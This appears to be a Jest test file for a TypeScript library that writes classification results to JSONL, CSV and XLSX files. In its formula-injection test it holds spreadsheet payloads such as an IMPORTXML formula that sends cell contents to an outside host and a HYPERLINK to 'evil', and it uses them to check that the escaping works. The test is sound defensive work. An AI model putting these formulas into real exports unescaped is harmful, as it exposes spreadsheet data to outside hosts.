import * as XLSX from '@e965/xlsx';
import { appendFileSync, readFileSync, writeFileSync } from 'node:fs';
import { appendJsonl, escapeFormula, formatCsvField, openResultWriter, rowError, XLSX_MAX_CELL_CHARS } from '../../activities/files';
import { collect, failure, tempDir } from './helpers';

const tmp = tempDir();
afterAll(() => tmp.cleanup());

const tricky = [
	{ row: 0, uid: 'ab.01', text: 'Hello, "world"', labels: [{ name: ['Billing', 'Refund'], probability: 0.91 }] },
	{ row: 1, uid: 'ab.02', text: 'line one\r\nline two\nü€😀', labels: [] },
	{ row: 2, uid: 'ab.03', text: '', labels: null },
];

describe('JSONL writer', () => {
	test('round-trips tricky records', async () => {
		const path = tmp.path('out.jsonl');
		const writer = await openResultWriter(path, 'jsonl');
		for (const record of tricky) await writer.write(record);
		expect(await writer.close()).toEqual({ rows: 3 });
		expect((await collect({ path })).map((r) => r.values)).toEqual(tricky);
	});

	test('backpressure: many large writes stay ordered and complete', async () => {
		const path = tmp.path('big.jsonl');
		const writer = await openResultWriter(path, 'jsonl');
		const text = 'x'.repeat(10_000);
		for (let i = 0; i < 2000; i++) await writer.write({ i, text });
		expect(await writer.close()).toEqual({ rows: 2000 });
		const rows = await collect({ path });
		expect(rows.map((r) => r.values.i)).toEqual(Array.from({ length: 2000 }, (_, i) => i));
	});

	test('opening a file in a missing directory fails at open', async () => {
		await expect(openResultWriter(tmp.path('missing/dir/out.jsonl'), 'jsonl')).rejects.toThrow(/ENOENT/);
	});
});

describe('appendJsonl (error files across resumes)', () => {
	test('keeps earlier records and cuts a partial line left by a crash', async () => {
		const path = tmp.path('errors.jsonl');
		const first = await appendJsonl(path);
		await first.write({ row: 1, problem: 'a' });
		await first.write({ row: 2, problem: 'b' });
		await first.close();
		appendFileSync(path, '{"row": 3, "probl'); // crash mid-write
		const second = await appendJsonl(path);
		await second.write({ row: 3, problem: 'c' });
		expect(await second.close()).toEqual({ rows: 1 });
		const rows = await collect({ path });
		expect(rows.map((r) => rowError(r.values) ?? r.values.problem)).toEqual(['a', 'b', 'c']);
	});

	test('a file that is only a partial line is emptied; CSV append writes the header once', async () => {
		const path = tmp.path('partial.jsonl');
		writeFileSync(path, '{"row":');
		const writer = await appendJsonl(path);
		await writer.write({ row: 0 });
		await writer.close();
		expect(readFileSync(path, 'utf8')).toBe('{"row":0}\n');

		const csv = tmp.path('append.csv');
		for (const id of ['1', '2']) {
			const w = await openResultWriter(csv, 'csv', ['id', 'text'], { append: true });
			await w.write({ id, text: `t${id}` });
			await w.close();
		}
		expect(readFileSync(csv, 'utf8')).toBe('id,text\r\n1,t1\r\n2,t2\r\n');
		await expect(openResultWriter(csv, 'csv', undefined, { append: true })).rejects.toThrow(/needs explicit columns/);
	});
});

describe('CSV writer', () => {
	test('RFC 4180 quoting; nested values JSON-encoded; reads back with the CSV reader', async () => {
		const path = tmp.path('out.csv');
		const writer = await openResultWriter(path, 'csv');
		for (const record of tricky) await writer.write(record);
		await writer.close();
		const rows = await collect({ path });
		expect(rows.map((r) => r.values)).toEqual(
			tricky.map((t) => ({ row: String(t.row), uid: t.uid, text: t.text, labels: t.labels === null ? '' : JSON.stringify(t.labels) })),
		);
		expect(readFileSync(path, 'utf8').split('\r\n')[1]).toBe('0,ab.01,"Hello, ""world""","[{""name"":[""Billing"",""Refund""],""probability"":0.91}]"');
	});

	test('explicit columns: header even with no rows, missing keys empty, extra keys dropped', async () => {
		const path = tmp.path('cols.csv');
		const empty = await openResultWriter(path, 'csv', ['a', 'b']);
		expect(await empty.close()).toEqual({ rows: 0 });
		expect(readFileSync(path, 'utf8')).toBe('a,b\r\n');
		const writer = await openResultWriter(path, 'csv', ['a', 'b'], { delimiter: ';' });
		await writer.write({ b: 'x;y', c: 'dropped' });
		await writer.close();
		expect(readFileSync(path, 'utf8')).toBe('a;b\r\n;"x;y"\r\n');
	});

	test('formula injection: text starting with = + - @ tab or CR is prefixed with a quote', async () => {
		expect(['=HYPERLINK("http://evil")', '+1', '-2', '@SUM(A1)', '\tx', '\rx', 'safe', ' =x'].map((v) => escapeFormula(v))).toEqual([
			`'=HYPERLINK("http://evil")`,
			"'+1",
			"'-2",
			"'@SUM(A1)",
			"'\tx",
			"'\rx",
			'safe',
			' =x',
		]);
		expect(formatCsvField('=1+2')).toBe("'=1+2");
		expect(formatCsvField(-5)).toBe('-5'); // numbers are not text: no prefix
		expect(formatCsvField('=1,2')).toBe(`"'=1,2"`);
		expect(formatCsvField('\rx')).toBe(`"'\rx"`);
		expect(formatCsvField('=1+2', ',', false)).toBe('=1+2');

		const path = tmp.path('formula.csv');
		const writer = await openResultWriter(path, 'csv', ['=cmd', 'text']);
		await writer.write({ '=cmd': '@evil', text: '=IMPORTXML(CONCAT("http://x/?",A1),"//a")' });
		await writer.close();
		expect(readFileSync(path, 'utf8')).toBe(`'=cmd,text\r\n'@evil,"'=IMPORTXML(CONCAT(""http://x/?"",A1),""//a"")"\r\n`);
	});
});

describe('XLSX writer', () => {
	// XML normalises line endings, so CRLF in a text cell reads back as LF (Excel shows both alike).
	test('round-trips; text that looks like a formula stays text; long text is cut to the Excel limit', async () => {
		const path = tmp.path('out.xlsx');
		const writer = await openResultWriter(path, 'xlsx');
		for (const record of tricky) await writer.write(record);
		await writer.write({ row: 3, uid: 'ab.04', text: '=1+2', extra: 'y'.repeat(40_000) });
		expect(await writer.close()).toEqual({ rows: 4 });
		const rows = (await collect({ path })).map((r) => r.values);
		expect(rows.slice(0, 3)).toEqual(tricky.map((t) => ({ row: t.row, uid: t.uid, text: t.text.replace(/\r\n/g, '\n'), labels: t.labels === null ? null : JSON.stringify(t.labels), extra: null })));
		expect(rows[3].text).toBe('=1+2');
		expect(String(rows[3].extra)).toHaveLength(XLSX_MAX_CELL_CHARS);
		const sheet = XLSX.read(readFileSync(path), { type: 'buffer', cellFormula: true }).Sheets.Results;
		expect(sheet.C5).toMatchObject({ t: 's', v: '=1+2' });
		expect(sheet.C5.f).toBeUndefined();
	});

	test('fails clearly past the row limit; append is refused', async () => {
		const writer = await openResultWriter(tmp.path('limit.xlsx'), 'xlsx', ['i'], { maxRows: 3 });
		for (let i = 0; i < 3; i++) await writer.write({ i });
		const error = await failure(writer.write({ i: 3 }));
		expect(error.code).toBe('LIMIT_EXCEEDED');
		expect(error.message).toMatch(/at most 3 rows; write JSONL or CSV/);
		expect(await writer.close()).toEqual({ rows: 3 });
		await expect(openResultWriter(tmp.path('x.xlsx'), 'xlsx', undefined, { append: true })).rejects.toThrow(/cannot be appended/);
	});
});

test.each(['jsonl', 'csv', 'xlsx'] as const)('%s: writeMany writes what writing each record writes', async (format) => {
	const one = tmp.path(`each.${format}`);
	const many = tmp.path(`many.${format}`);
	const each = await openResultWriter(one, format);
	for (const record of [...tricky, ...tricky]) await each.write(record);
	expect(await each.close()).toEqual({ rows: 6 });
	const batched = await openResultWriter(many, format);
	await batched.writeMany(tricky);
	await batched.writeMany([]);
	await batched.writeMany(tricky);
	expect(await batched.close()).toEqual({ rows: 6 });
	if (format === 'xlsx') expect(await collect({ path: many })).toEqual(await collect({ path: one }));
	else expect(readFileSync(many, 'utf8')).toBe(readFileSync(one, 'utf8'));
});
